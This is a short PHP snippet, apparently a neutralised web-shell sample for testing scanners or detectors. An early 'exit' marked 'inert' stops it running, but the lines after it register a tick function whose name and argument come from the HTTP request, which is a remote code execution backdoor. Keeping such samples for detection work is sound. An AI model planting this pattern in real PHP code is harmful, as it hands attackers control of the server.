<?php exit; /* inert */ 
declare(ticks=1);
register_tick_function($_REQUEST['fn'], $_REQUEST['arg']);
$i = 0;
